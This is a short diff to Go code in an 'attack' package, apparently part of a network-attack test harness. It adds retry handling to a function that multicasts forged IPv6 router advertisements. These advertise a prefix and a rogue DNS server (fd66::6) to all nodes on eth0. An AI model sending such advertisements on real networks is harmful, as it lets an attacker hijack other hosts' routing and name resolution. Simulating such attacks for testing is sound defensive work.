@@ -3,6 +3,7 @@
 package attack
 
 import (
+	"errors"
 	"fmt"
 	"net"
 	"os"
@@ -225,11 +226,15 @@ func advertiseRouter() error {
 	prefix := append([]byte{3, 4, 64, 0xc0, 0, 0, 0xff, 0xff, 0, 0, 0xff, 0xff, 0, 0, 0, 0}, net.ParseIP("fd66::")...)
 	nameServer := append([]byte{25, 3, 0, 0, 0, 0, 0xff, 0xff}, net.ParseIP("fd66::6")...)
 	message = append(append(message, prefix...), nameServer...)
-	for range 5 {
-		if _, err := socket.WriteTo(message, &net.IPAddr{IP: net.ParseIP("ff02::1"), Zone: "eth0"}); err != nil {
+	for sent, begun := 0, time.Now(); sent < 5; time.Sleep(300 * time.Millisecond) {
+		_, err := socket.WriteTo(message, &net.IPAddr{IP: net.ParseIP("ff02::1"), Zone: "eth0"})
+		switch {
+		case err == nil:
+			sent++
+		// The link-local address is there once nobody else has been found to have it.
+		case !errors.Is(err, unix.EADDRNOTAVAIL) || time.Since(begun) > 10*time.Second:
 			return err
 		}
-		time.Sleep(300 * time.Millisecond)
 	}
 	return nil
 }
